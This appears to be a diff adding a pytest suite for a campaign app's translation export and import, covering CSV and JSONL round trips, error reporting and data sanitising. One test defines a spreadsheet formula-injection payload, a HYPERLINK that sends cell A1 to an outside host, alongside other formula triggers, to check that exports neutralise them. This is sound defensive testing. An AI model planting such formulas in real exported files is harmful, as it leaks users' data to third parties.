@@ -1,0 +1,236 @@
+"""Messages go to a translator in a file and come back: all of it or nothing, each fault with its line."""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+from pathlib import Path
+
+import pytest
+
+from campaign import messages
+from campaign.database import Database
+from campaign.keeping import erasure
+from campaign.messages import exchange, translations
+from campaign.messages.translations import Entry, Kept, TranslationError, text_sha256
+from campaign.text.flags import Flag
+from tests.conftest import APPROVAL_KEY, TODAY, Submit
+
+EVIL = '=HYPERLINK("http://example.org/?"&A1,"Stay strong")'
+
+
+def stored(database: Database, identifier: str) -> messages.Message:
+    with database.read() as connection:
+        return messages.get(connection, identifier)
+
+
+def exported(database: Database, *, everything: bool = False) -> list[messages.Message]:
+    with database.read() as connection:
+        return translations.to_translate(connection, "mikita", everything=everything)
+
+
+def rows(file: Path) -> list[dict[str, str]]:
+    text = file.read_text("utf-8-sig")
+    if file.suffix == ".csv":
+        return list(csv.DictReader(io.StringIO(text, newline="")))
+    return [json.loads(line) for line in text.splitlines()]
+
+
+def come_back(file: Path, translated: dict[str, str]) -> Path:
+    """Write the file as the translator would, with these translations by their texts."""
+    filled = [row | {"translation": translated.get(row["text"], "")} for row in rows(file)]
+    if file.suffix == ".csv":
+        with file.open("w", encoding="utf-8", newline="") as out:
+            writer = csv.DictWriter(out, exchange.COLUMNS)
+            writer.writeheader()
+            writer.writerows(filled)
+    else:
+        file.write_text("".join(json.dumps(row) + "\n" for row in filled), "utf-8")
+    return file
+
+
+def keep(database: Database, entries: list[Entry], *, skip_changed: bool = False) -> Kept:
+    return database.write(
+        lambda connection: translations.keep(connection, "mikita", entries, skip_changed=skip_changed)
+    )
+
+
+@pytest.fixture(params=["csv", "jsonl"])
+def file(request: pytest.FixtureRequest, tmp_path: Path) -> Path:
+    return tmp_path / f"to-translate.{request.param}"
+
+
+def test_what_waits_or_is_approved_without_a_translation_is_exported(database, submit):
+    sent = {
+        name: submit(database, f"Words, {name}.").message
+        for name in ("waiting", "approved", "rejected", "translated", "erased")
+    }
+    submit(database, "Elsewhere.", campaign="another")
+    database.write(lambda c: messages.approve(c, sent["approved"], "olga", [APPROVAL_KEY], TODAY))
+    database.write(lambda c: messages.reject(c, sent["rejected"], "olga", "Spam", TODAY))
+    database.write(lambda c: messages.translate(c, sent["translated"], "Словы."))
+    database.write(lambda c: erasure.erase(c, sent["erased"], "erased by staff", TODAY))
+    assert [m.text for m in exported(database)] == ["Words, waiting.", "Words, approved."]
+    everything = exported(database, everything=True)
+    assert [m.text for m in everything] == [
+        f"Words, {n}." for n in ("waiting", "approved", "rejected", "translated")
+    ]
+
+
+def test_a_file_goes_out_and_comes_back(any_database, submit, file):
+    submit(any_database, 'Трымайся,\nМікіта; «усё» будзе, "добра"!')
+    submit(any_database, "We are with you.")
+    exchange.write(file, exported(any_database))
+    assert (file.stat().st_mode & 0o777) == 0o600
+    assert "Anna" not in file.read_text("utf-8-sig")
+    came = come_back(file, {'Трымайся,\nМікіта; «усё» будзе, "добра"!': "Hold on,\nMikita!"})
+    assert keep(any_database, exchange.read(came)) == Kept(1)
+    (first, second) = exported(any_database, everything=True)
+    assert (first.translation, second.translation) == ("Hold on,\nMikita!", None)
+    assert [message.text for message in exported(any_database)] == ["We are with you."]
+
+
+def test_a_translation_on_its_way_out_comes_back_unchanged(database, submit, file):
+    odd = ["=1+1", "'=1+1", "''=x", "-x", "＝1", "'tis", '"quoted"; and, more\nlines']
+    for number, translation in enumerate(odd):
+        identifier = submit(database, f"Words number {number}.").message
+        database.write(lambda c, i=identifier, t=translation: messages.translate(c, i, t))
+    exchange.write(file, exported(database, everything=True))
+    assert [entry.translation for entry in exchange.read(file)] == odd
+
+
+@pytest.mark.parametrize("text", [EVIL, "+1", "-1", "@SUM(A1)", "＝1+1", "'=1+1"])
+def test_no_cell_of_a_spreadsheet_is_a_formula(database, submit, tmp_path, text):
+    identifier = submit(database, text).message
+    file = tmp_path / "t.csv"
+    exchange.write(file, exported(database))
+    (row,) = rows(file)
+    assert row["text"] == f"'{text}"
+    assert keep(database, exchange.read(come_back(file, {f"'{text}": "Harmless."}))) == Kept(1)
+    assert stored(database, identifier).translation == "Harmless."
+
+
+@pytest.mark.parametrize("separator", [",", ";", "\t"])
+@pytest.mark.parametrize("mark", ["", "\ufeff"])
+@pytest.mark.parametrize("end", ["\n", "\r\n"])
+def test_what_spreadsheets_do_to_a_file_is_tolerated(database, submit, tmp_path, separator, mark, end):
+    message = stored(database, submit(database).message)
+    digest = text_sha256(message.text).upper()
+    cells = [["ID", "Translation", "mine", "text_sha256"], [message.id, "Мы з табой.", "", digest], [""] * 4]
+    file = tmp_path / "t.csv"
+    file.write_bytes((mark + "".join(separator.join(row) + end for row in cells)).encode())
+    assert keep(database, exchange.read(file)) == Kept(1)
+    assert stored(database, message.id).translation == "Мы з табой."
+
+
+def test_invisible_characters_are_taken_out(database, submit):
+    message = stored(database, submit(database).message)
+    keep(database, [Entry("t:2", message.id, text_sha256(message.text), "a\u202eb\r\nc\u0000\ud800")])
+    assert stored(database, message.id).translation == "ab\nc"
+
+
+def test_a_file_that_is_there_is_not_overwritten(database, submit, file):
+    submit(database)
+    file.write_text("somebody's work")
+    with pytest.raises(TranslationError, match=r"is there already.*name another file"):
+        exchange.write(file, exported(database))
+    assert file.read_text() == "somebody's work"
+
+
+def test_a_full_disk_leaves_no_half_file(database, submit, small_disk):
+    for number in range(60):
+        submit(database, f"{number} " + "word " * 70)
+    many = exported(database) * 120
+    with pytest.raises(TranslationError, match="No space left"):
+        exchange.write(small_disk / "t.csv", many)
+    assert not list(small_disk.iterdir())
+
+
+@pytest.mark.parametrize(
+    ("name", "content", "said"),
+    [
+        ("t.csv", b"id,translation\na,b\n", "t.csv:1: no column text_sha256; keep the columns as exported"),
+        ("t.csv", b"", "t.csv:1: no column id, translation, text_sha256"),
+        (
+            "t.csv",
+            "id,translation,text_sha256\na,\u0434,c\n".encode("cp1251"),
+            "t.csv: is not UTF-8; save it",
+        ),
+        ("t.csv", b'id,translation,text_sha256\na,"b,c\n', "t.csv:2: unexpected end of data; save it as CSV"),
+        ("t.csv", b'id,translation,text_sha256\na,"b"x,c\n', "t.csv:2: ',' expected after '\"'"),
+        ("t.jsonl", b'{"id": "a"}\n', "t.jsonl:1: wants id, translation, text_sha256 as strings"),
+        ("t.jsonl", b"\n[1]\n", "t.jsonl:2: wants id, translation, text_sha256 as strings"),
+        ("t.jsonl", b'{"id": 7, "translation": "b", "text_sha256": "c"}', "t.jsonl:1: wants id"),
+        ("t.jsonl", b"{", "t.jsonl:1: is no JSON; write one object a line, as exported"),
+        ("t.jsonl", b"[" * 100_000, "t.jsonl:1: is no JSON"),
+    ],
+)
+def test_a_broken_file_is_refused_with_its_line(tmp_path, name, content, said):
+    file = tmp_path / name
+    file.write_bytes(content)
+    with pytest.raises(TranslationError) as refusal:
+        exchange.read(file)
+    assert str(refusal.value).startswith(f"{tmp_path}/{said}")
+
+
+def test_a_row_is_placed_by_its_first_line(tmp_path):
+    file = tmp_path / "t.csv"
+    file.write_text('id,translation,text_sha256\na,"one\ntwo\nthree",x\nb,four,y\n')
+    assert [entry.place for entry in exchange.read(file)] == [f"{file}:2", f"{file}:5"]
+
+
+@pytest.fixture
+def five(any_database: Database, submit: Submit) -> list[Entry]:
+    """Five translations: of a message as it was, a changed one, an erased one, a foreign one, and of none."""
+    good, changed, erased = (submit(any_database, f"Words number {n}.").message for n in range(3))
+    foreign = submit(any_database, "Elsewhere.", campaign="another").message
+    texts = {i: text_sha256(stored(any_database, i).text) for i in (good, changed, erased, foreign)}
+    cut = Flag("removed", "message", 0, 6)
+    any_database.write(lambda c: messages.redact(c, changed, cut, "olga", [APPROVAL_KEY], TODAY))
+    any_database.write(lambda c: erasure.erase(c, erased, "erased by staff", TODAY))
+    known = [Entry(f"t.csv:{n}", i, digest, "Словы.") for n, (i, digest) in enumerate(texts.items(), 2)]
+    return [*known, Entry("t.csv:6", "nosuch\u0000id", "", "Словы.")]
+
+
+def test_every_fault_is_named_and_then_nothing_is_imported(any_database, five):
+    good, changed, erased, foreign, unknown = five
+    again = Entry("t.csv:7", good.message, good.text_sha256, "Другія словы.")
+    long = Entry("t.csv:8", good.message + "x", "", "x" * 4001)
+    with pytest.raises(TranslationError) as refusal:
+        keep(any_database, [*five, again, long])
+    *named, last = str(refusal.value).split("\n")
+    assert last == "nothing was imported"
+    assert [line.partition(": ")[0] for line in named] == [f"t.csv:{n}" for n in range(3, 9)]
+    reasons = ["text was changed since", "erased since", *["no message of this campaign"] * 2]
+    reasons += ["stands above", "no message of this campaign"]
+    for line, words in zip(named, reasons, strict=True):
+        assert words in line
+    for entry in (good, changed, erased, foreign):
+        assert stored(any_database, entry.message).translation is None
+    with pytest.raises(TranslationError, match="no message of this campaign"):
+        keep(any_database, [unknown], skip_changed=True)
+
+
+def test_what_was_changed_or_erased_since_can_be_left_out(any_database, five):
+    good, changed, erased, *_ = five
+    done = keep(any_database, [good, changed, erased], skip_changed=True)
+    assert (done.number, len(done.left_out)) == (1, 2)
+    assert stored(any_database, good.message).translation == "Словы."
+    assert stored(any_database, changed.message).translation is None
+
+
+def test_no_translation_is_longer_than_any_is(database, submit):
+    message = stored(database, submit(database).message)
+    with pytest.raises(TranslationError, match=r"t:2: \w+: longer than 4000 characters; shorten it"):
+        keep(database, [Entry("t:2", message.id, text_sha256(message.text), "x" * 4001)])
+
+
+def test_more_than_a_statement_holds(database, submit):
+    sent = [stored(database, submit(database, f"Words number {n}.").message) for n in range(3)]
+    strangers = [Entry(f"t:{n}", f"stranger{n}", "", "x") for n in range(translations.CHUNK * 2)]
+    entries = [Entry("t:0", m.id, text_sha256(m.text), "Словы.") for m in sent]
+    with pytest.raises(TranslationError) as refusal:
+        keep(database, [*entries[:1], *strangers, *entries[1:]])
+    assert len(str(refusal.value).split("\n")) == len(strangers) + 1
+    assert keep(database, entries) == Kept(3)
